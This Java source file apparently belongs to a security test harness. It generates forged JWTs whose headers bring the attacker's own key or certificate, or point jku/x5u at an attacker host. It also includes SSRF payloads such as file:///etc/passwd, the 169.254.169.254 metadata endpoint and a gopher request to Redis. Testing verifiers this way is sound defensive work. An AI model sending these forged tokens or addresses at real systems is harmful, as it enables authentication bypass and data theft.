package org.launchgate.example.attack.family;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.launchgate.example.attack.trial.Family.HEADER;
import static org.launchgate.example.attack.trial.Need.KEY;

import java.io.IOException;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.launchgate.example.attack.token.Base64Url;
import org.launchgate.example.attack.token.Certificate;
import org.launchgate.example.attack.token.Draft;
import org.launchgate.example.attack.token.Hash;
import org.launchgate.example.attack.token.Json;
import org.launchgate.example.attack.token.Spellings;
import org.launchgate.example.attack.trial.Attack;
import org.launchgate.example.attack.trial.Outcome;
import org.launchgate.example.attack.trial.Scene;

/** The token brings the key along by which it wants to be checked, or says where that is. */
public final class BroughtKeyAttacks {
  private static final String SOURCE = "RFC 8725 3.10; V-15";
  private static final List<String> ALGORITHMS = List.of("RS256", "ES256", "EdDSA");

  private BroughtKeyAttacks() {}

  /** All of them. */
  public static List<Attack> all() {
    return List.of(
        jwk(),
        secretJwk(),
        jku(),
        jkuElsewhere(),
        x5u(),
        x5c(),
        thumbprint(),
        jwkSet(),
        unsignedJwk(),
        called());
  }

  private static Attack attack(String id, String description, String source) {
    return Attack.of(HEADER, id, description, source);
  }

  private static Attack jwk() {
    return attack("hdr-jwk", "the header brings the attacker's key", "CVE-2018-0114; " + SOURCE)
        .tokens(ALGORITHMS, (s, alg) -> own(s, alg, draft -> draft.header("jwk", key(s, alg))))
        .token(
            "under another kid",
            s -> own(s, "RS256", d -> d.header("kid", "own").header("jwk", named(s))))
        .token(
            "without kid",
            s -> own(s, "RS256", d -> d.withoutHeader("kid").header("jwk", key(s, "RS256"))))
        .token("as text", s -> own(s, "RS256", d -> d.header("jwk", Json.of(key(s, "RS256")))));
  }

  private static Attack secretJwk() {
    return attack("hdr-jwk-oct", "the header brings a secret", "CVE-2018-0114; " + SOURCE)
        .token(
            "HS256",
            s ->
                own(
                    s,
                    "HS256",
                    d ->
                        d.header(
                            "jwk", Map.of("kty", "oct", "k", Base64Url.of(s.own().secret())))));
  }

  private static Attack unsignedJwk() {
    return attack("hdr-jwk-none", "the header brings a key for nothing", SOURCE)
        .token(
            "alg none",
            s ->
                s.draft()
                    .header("alg", "none")
                    .header("jwk", Map.of("kty", "none"))
                    .withSignature(new byte[0]))
        .token("an empty key", s -> own(s, "RS256", d -> d.header("jwk", Map.of())));
  }

  private static Attack jku() {
    return attack("hdr-jku", "the header says where the key is", "CVE-2024-21643; " + SOURCE)
        .tokens(
            List.of("http://", "https://", "//", "ftp://", "HTTP://"),
            (s, scheme) -> own(s, "RS256", d -> d.header("jku", scheme + s.bait() + "/jwks.json")))
        .token(
            "under the partner's signature",
            s -> own(s, "RS256", d -> d.header("jku", "http://" + s.bait())));
  }

  private static Attack jkuElsewhere() {
    return attack(
            "hdr-jku-elsewhere", "the header names an address that is none of its business", SOURCE)
        .tokens(
            List.of(
                "file:///etc/passwd",
                "http://169.254.169.254/latest/meta-data/",
                "http://[::1]:22/",
                "jar:http://127.0.0.1/a.jar!/",
                "ldap://127.0.0.1/a",
                "gopher://127.0.0.1:6379/_INFO",
                "/",
                ""),
            (s, address) -> own(s, "RS256", d -> d.header("jku", address)))
        .token("a data URL", s -> own(s, "RS256", d -> d.header("jku", dataUrl(s))));
  }

  private static String dataUrl(Scene scene) {
    String set = Json.of(Map.of("keys", List.of(key(scene, "RS256"))));
    return "data:application/json;base64,"
        + Base64.getEncoder().encodeToString(set.getBytes(UTF_8));
  }

  private static Attack x5u() {
    return attack(
            "hdr-x5u", "the header says where the certificate is", "CVE-2024-21643; " + SOURCE)
        .tokens(
            List.of("http://", "https://"),
            (s, scheme) -> own(s, "RS256", d -> d.header("x5u", scheme + s.bait() + "/own.pem")))
        .token("a file", s -> own(s, "RS256", d -> d.header("x5u", "file:///etc/ssl/cert.pem")));
  }

  private static Attack x5c() {
    return attack("hdr-x5c", "the header brings the attacker's certificate", SOURCE)
        .token("alone", s -> own(s, "RS256", d -> d.header("x5c", List.of(certificate(s)))))
        .token(
            "without kid",
            s ->
                own(s, "RS256", d -> d.withoutHeader("kid").header("x5c", List.of(certificate(s)))))
        .token(
            "a chain",
            s -> own(s, "RS256", d -> d.header("x5c", List.of(certificate(s), certificate(s)))))
        .token("as text", s -> own(s, "RS256", d -> d.header("x5c", certificate(s))))
        .token("garbage", s -> own(s, "RS256", d -> d.header("x5c", List.of("AAAA"))));
  }

  private static Attack thumbprint() {
    return attack("hdr-x5t", "the header names the attacker's certificate by its hash", SOURCE)
        .token(
            "x5t",
            s -> own(s, "RS256", d -> d.withoutHeader("kid").header("x5t", hash(s, "SHA-1"))))
        .token(
            "x5t#S256",
            s ->
                own(s, "RS256", d -> d.withoutHeader("kid").header("x5t#S256", hash(s, "SHA-256"))))
        .token(
            "beside the kid", s -> own(s, "RS256", d -> d.header("x5t#S256", hash(s, "SHA-256"))));
  }

  private static Attack jwkSet() {
    return attack("hdr-keys", "header or claims bring a whole set of keys", SOURCE)
        .token("keys", s -> own(s, "RS256", d -> d.header("keys", List.of(named(s)))))
        .token(
            "jwks", s -> own(s, "RS256", d -> d.header("jwks", Map.of("keys", List.of(named(s))))))
        .token("cnf", s -> own(s, "RS256", d -> d.claim("cnf", Map.of("jwk", key(s, "RS256")))))
        .token("among the claims", s -> own(s, "RS256", d -> d.claim("jwk", key(s, "RS256"))));
  }

  private static Attack called() {
    return attack("hdr-called", "the deployment calls an address out of a token", SOURCE)
        .needs(KEY)
        .variant(
            "jku under a good signature",
            s -> calls(s, s.draft().header("jku", "http://" + s.bait() + "/")))
        .variant(
            "x5u under a good signature",
            s -> calls(s, s.draft().header("x5u", "http://" + s.bait() + "/")))
        .variant(
            "kid that is an address",
            s -> calls(s, s.draft().header("kid", "http://" + s.bait() + "/")));
  }

  // Such a launch may be accepted: the member means nothing. Nobody may knock for it.
  private static Outcome calls(Scene scene, Draft draft) throws IOException {
    scene.browser().send(scene.carry(scene.signed(draft)));
    return scene.undisturbed();
  }

  private static Map<String, Object> key(Scene scene, String algorithm) {
    return Spellings.jwk(scene.own().publicKey(algorithm));
  }

  private static Map<String, Object> named(Scene scene) {
    Map<String, Object> key = new LinkedHashMap<>(key(scene, "RS256"));
    key.put("kid", "own");
    return key;
  }

  private static String certificate(Scene scene) {
    return Base64.getEncoder().encodeToString(der(scene));
  }

  private static byte[] der(Scene scene) {
    return Certificate.of(
        scene.setup().issuer().orElse("partner"),
        scene.own().publicKey("RS256"),
        scene.own().signer("RS256"));
  }

  private static String hash(Scene scene, String name) {
    return Base64Url.of(Hash.of(name, der(scene)));
  }

  private static String own(Scene scene, String algorithm, UnaryOperator<Draft> change) {
    Draft draft = change.apply(scene.draft().header("alg", algorithm));
    return draft.signedBy(scene.own().signer(algorithm));
  }
}
